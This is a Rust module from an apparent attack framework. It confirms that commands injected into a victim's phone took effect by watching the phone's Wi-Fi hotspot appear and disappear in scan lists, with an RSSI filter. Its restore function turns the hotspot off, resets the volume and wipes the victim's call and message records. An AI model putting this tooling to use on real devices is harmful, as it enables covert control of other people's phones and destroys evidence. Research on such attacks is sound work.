//! Hotspot-based execution feedback: scan snapshots, list differences, the
//! abrupt-RSSI filter and the appearance/disappearance/reappearance round.

mod replay;

use std::collections::{BTreeMap, BTreeSet, HashSet};

use serde::{Deserialize, Serialize};

use crate::attack::CommandKind;
use crate::error::{Error, Result};

pub use replay::{parse_scan_log, read_scan_log, RecordingSink, ReplaySource};

pub type Bssid = String;
pub type IdSet = BTreeSet<Bssid>;

#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct HotspotRecord {
    pub ssid: String,
    pub bssid: Bssid,
    pub rssi_dbm: f64,
    pub t: f64,
}

impl HotspotRecord {
    pub fn validate(&self) -> Result<()> {
        if self.bssid.is_empty() {
            return Err(Error::param("bssid", "must be non-empty"));
        }
        if !self.rssi_dbm.is_finite() {
            return Err(Error::param("rssi", format!("{} has non-finite RSSI", self.bssid)));
        }
        if !self.t.is_finite() {
            return Err(Error::param("t", "timestamp must be finite"));
        }
        Ok(())
    }
}

/// One scan: every visible hotspot at time `t`.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct ScanSnapshot {
    pub t: f64,
    pub records: Vec<HotspotRecord>,
}

impl ScanSnapshot {
    pub fn new(t: f64, records: Vec<HotspotRecord>) -> Result<Self> {
        if !t.is_finite() {
            return Err(Error::param("t", "timestamp must be finite"));
        }
        let mut seen = HashSet::new();
        for r in &records {
            r.validate()?;
            if r.t != t {
                return Err(Error::param(
                    "t",
                    format!("record {} at t={} inside snapshot at t={t}", r.bssid, r.t),
                ));
            }
            if !seen.insert(r.bssid.as_str()) {
                return Err(Error::param("bssid", format!("{} listed twice at t={t}", r.bssid)));
            }
        }
        Ok(Self { t, records })
    }

    pub fn empty(t: f64) -> Self {
        Self { t, records: Vec::new() }
    }

    pub fn ids(&self) -> IdSet {
        self.records.iter().map(|r| r.bssid.clone()).collect()
    }

    pub fn rssi(&self, bssid: &str) -> Option<f64> {
        self.records.iter().find(|r| r.bssid == bssid).map(|r| r.rssi_dbm)
    }
}

/// Identifiers present in `a` and absent from `b`.
pub fn snapshot_diff(a: &ScanSnapshot, b: &ScanSnapshot) -> IdSet {
    let in_b: HashSet<&str> = b.records.iter().map(|r| r.bssid.as_str()).collect();
    a.records
        .iter()
        .filter(|r| !in_b.contains(r.bssid.as_str()))
        .map(|r| r.bssid.clone())
        .collect()
}

#[derive(Debug, Clone, Copy, PartialEq, Serialize, Deserialize)]
#[serde(deny_unknown_fields, default)]
pub struct FeedbackParams {
    /// Wait after each feedback command before taking the next list.
    pub window_s: f64,
    /// Step between consecutive observations counted as abrupt.
    pub delta_db_threshold: f64,
    /// Scans inspected before an appearance or disappearance.
    pub ramp_window: usize,
    /// Samples below this level count as weak.
    pub strong_floor_dbm: f64,
}

impl Default for FeedbackParams {
    fn default() -> Self {
        Self {
            window_s: 10.0,
            delta_db_threshold: 20.0,
            ramp_window: 3,
            strong_floor_dbm: -75.0,
        }
    }
}

impl FeedbackParams {
    pub fn validate(&self) -> Result<()> {
        if !(self.window_s > 0.0 && self.window_s.is_finite()) {
            return Err(Error::param("window_s", "must be positive"));
        }
        if !(self.delta_db_threshold > 0.0) {
            return Err(Error::param("delta_db_threshold", "must be positive"));
        }
        if self.ramp_window == 0 {
            return Err(Error::param("ramp_window", "must be at least 1"));
        }
        if !self.strong_floor_dbm.is_finite() {
            return Err(Error::param("strong_floor_dbm", "must be finite"));
        }
        Ok(())
    }
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum Verdict {
    Keep,
    Drop,
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct FilterDecision {
    pub bssid: Bssid,
    pub verdict: Verdict,
    /// `step`, `appeared`, `disappeared`, `gradual` or `unseen`.
    pub reason: String,
}

/// Keeps candidates whose RSSI history shows a sudden transition (a phone
/// toggling its hotspot) and drops ones that fade in or out.
pub fn abrupt_filter(history: &[ScanSnapshot], candidate: &str, params: &FeedbackParams) -> FilterDecision {
    let decision = |verdict, reason: &str| FilterDecision {
        bssid: candidate.to_string(),
        verdict,
        reason: reason.to_string(),
    };
    let obs: Vec<Option<f64>> = history.iter().map(|s| s.rssi(candidate)).collect();
    if obs.iter().all(Option::is_none) {
        return decision(Verdict::Drop, "unseen");
    }
    let weak = |r: &Option<f64>| matches!(r, Some(v) if *v < params.strong_floor_dbm);
    for i in 1..obs.len() {
        let before = &obs[i.saturating_sub(params.ramp_window)..i];
        match (obs[i - 1], obs[i]) {
            (Some(a), Some(b)) if (b - a).abs() >= params.delta_db_threshold => {
                return decision(Verdict::Keep, "step");
            }
            (None, Some(b)) if b >= params.strong_floor_dbm && !before.iter().any(weak) => {
                return decision(Verdict::Keep, "appeared");
            }
            (Some(a), None) if a >= params.strong_floor_dbm && !before.iter().any(weak) => {
                return decision(Verdict::Keep, "disappeared");
            }
            _ => {}
        }
    }
    decision(Verdict::Drop, "gradual")
}

/// Source of time-ordered scan snapshots.
pub trait ScanSource {
    /// The next snapshot, or `None` once the source is exhausted.
    fn next_snapshot(&mut self) -> Result<Option<ScanSnapshot>>;
}

/// Transmitter side of the feedback loop.
pub trait CommandSink {
    /// Plays `command` at time `t`.
    fn send(&mut self, t: f64, command: CommandKind) -> Result<()>;

    /// Wipes call and message records on the victim.
    fn clear_records(&mut self, _t: f64) -> Result<()> {
        Ok(())
    }
}

/// Something that both scans and transmits, e.g. a simulated environment.
pub trait Channel: ScanSource + CommandSink {}

impl<T: ScanSource + CommandSink> Channel for T {}

/// Pairs a separate source and sink into one [`Channel`].
pub struct Link<'a, S, T> {
    pub source: &'a mut S,
    pub sink: &'a mut T,
}

impl<S: ScanSource, T> ScanSource for Link<'_, S, T> {
    fn next_snapshot(&mut self) -> Result<Option<ScanSnapshot>> {
        self.source.next_snapshot()
    }
}

impl<S, T: CommandSink> CommandSink for Link<'_, S, T> {
    fn send(&mut self, t: f64, command: CommandKind) -> Result<()> {
        self.sink.send(t, command)
    }

    fn clear_records(&mut self, t: f64) -> Result<()> {
        self.sink.clear_records(t)
    }
}

#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct SentCommand {
    pub t: f64,
    pub command: CommandKind,
}

#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct FeedbackOutcome {
    pub success: bool,
    /// The scan source ran dry before the round finished.
    pub aborted: bool,
    pub target_ids: IdSet,
    pub l1: Option<ScanSnapshot>,
    pub l2: Option<ScanSnapshot>,
    pub l3: Option<ScanSnapshot>,
    pub l4: Option<ScanSnapshot>,
    pub dif1: IdSet,
    pub dif2: IdSet,
    pub filtered_ids: IdSet,
    pub filter_decisions: Vec<FilterDecision>,
    pub commands: Vec<SentCommand>,
    /// Every snapshot consumed during the round, in order.
    pub history: Vec<ScanSnapshot>,
}

impl FeedbackOutcome {
    fn empty() -> Self {
        Self {
            success: false,
            aborted: false,
            target_ids: IdSet::new(),
            l1: None,
            l2: None,
            l3: None,
            l4: None,
            dif1: IdSet::new(),
            dif2: IdSet::new(),
            filtered_ids: IdSet::new(),
            filter_decisions: Vec::new(),
            commands: Vec::new(),
            history: Vec::new(),
        }
    }

    pub fn to_json(&self) -> Result<String> {
        Ok(serde_json::to_string_pretty(self)?)
    }
}

struct Round<'a, C: ?Sized> {
    channel: &'a mut C,
    out: FeedbackOutcome,
}

impl<C: Channel + ?Sized> Round<'_, C> {
    fn next(&mut self) -> Result<Option<ScanSnapshot>> {
        let snap = self.channel.next_snapshot()?;
        if let Some(s) = &snap {
            if let Some(last) = self.out.history.last() {
                if s.t < last.t {
                    return Err(Error::param(
                        "scan",
                        format!("snapshot at t={} follows t={}", s.t, last.t),
                    ));
                }
            }
            self.out.history.push(s.clone());
        }
        Ok(snap)
    }

    fn send(&mut self, t: f64, command: CommandKind) -> Result<()> {
        self.channel.send(t, command)?;
        self.out.commands.push(SentCommand { t, command });
        Ok(())
    }

    /// Consumes snapshots until one is at least `window_s` after `t`.
    fn wait(&mut self, t: f64, window_s: f64) -> Result<Option<ScanSnapshot>> {
        while let Some(s) = self.next()? {
            if s.t >= t + window_s - 1e-9 {
                return Ok(Some(s));
            }
        }
        Ok(None)
    }
}

/// Runs one feedback round against `channel`.
pub fn feedback_round<C: Channel + ?Sized>(channel: &mut C, params: &FeedbackParams) -> Result<FeedbackOutcome> {
    params.validate()?;
    let mut round = Round {
        channel,
        out: FeedbackOutcome::empty(),
    };
    macro_rules! or_abort {
        ($e:expr) => {
            match $e? {
                Some(s) => s,
                None => {
                    round.out.aborted = true;
                    return Ok(round.out);
                }
            }
        };
    }

    let l1 = or_abort!(round.next());
    round.out.l1 = Some(l1.clone());
    round.send(l1.t, CommandKind::Feedback1)?;
    let l2 = or_abort!(round.wait(l1.t, params.window_s));
    round.out.l2 = Some(l2.clone());
    round.send(l2.t, CommandKind::Feedback2)?;
    let l3 = or_abort!(round.wait(l2.t, params.window_s));
    round.out.l3 = Some(l3.clone());
    round.out.dif1 = snapshot_diff(&l2, &l3);
    if l2.ids() == l3.ids() {
        return Ok(round.out);
    }
    round.send(l3.t, CommandKind::Feedback1)?;
    let l4 = or_abort!(round.wait(l3.t, params.window_s));
    round.out.l4 = Some(l4.clone());
    round.out.dif2 = snapshot_diff(&l4, &l3);

    let out = &mut round.out;
    for id in out.dif1.intersection(&out.dif2) {
        let d = abrupt_filter(&out.history, id, params);
        match d.verdict {
            Verdict::Keep => out.target_ids.insert(id.clone()),
            Verdict::Drop => out.filtered_ids.insert(id.clone()),
        };
        out.filter_decisions.push(d);
    }
    out.success = !out.target_ids.is_empty();
    Ok(round.out)
}

#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[serde(tag = "action", rename_all = "snake_case")]
pub enum RestoreAction {
    Sent { t: f64, command: CommandKind },
    ClearRecords { t: f64 },
    NoOp { reason: String },
}

/// Turns the victim's hotspot back off, resets its volume and clears its
/// records, provided the hotspots new since `l1` are exactly the targets.
pub fn restore<T: CommandSink + ?Sized>(
    sink: &mut T,
    outcome: &FeedbackOutcome,
    l1: &ScanSnapshot,
) -> Result<Vec<RestoreAction>> {
    if !outcome.success {
        return Err(Error::Precondition(
            "restore requires a successful feedback round".into(),
        ));
    }
    let l4 = outcome
        .l4
        .as_ref()
        .ok_or_else(|| Error::Precondition("successful outcome without L4".into()))?;
    if snapshot_diff(l4, l1) != outcome.target_ids {
        return Ok(vec![RestoreAction::NoOp {
            reason: "state mismatch".into(),
        }]);
    }
    let t = l4.t;
    let mut log = Vec::with_capacity(3);
    for command in [CommandKind::Feedback2, CommandKind::Reset] {
        sink.send(t, command)?;
        log.push(RestoreAction::Sent { t, command });
    }
    sink.clear_records(t)?;
    log.push(RestoreAction::ClearRecords { t });
    Ok(log)
}

/// Per-bssid RSSI series over `history` (`None` where absent).
pub fn rssi_tracks(history: &[ScanSnapshot]) -> BTreeMap<Bssid, Vec<Option<f64>>> {
    let mut ids = IdSet::new();
    for s in history {
        ids.extend(s.ids());
    }
    ids.into_iter()
        .map(|id| {
            let track = history.iter().map(|s| s.rssi(&id)).collect();
            (id, track)
        })
        .collect()
}
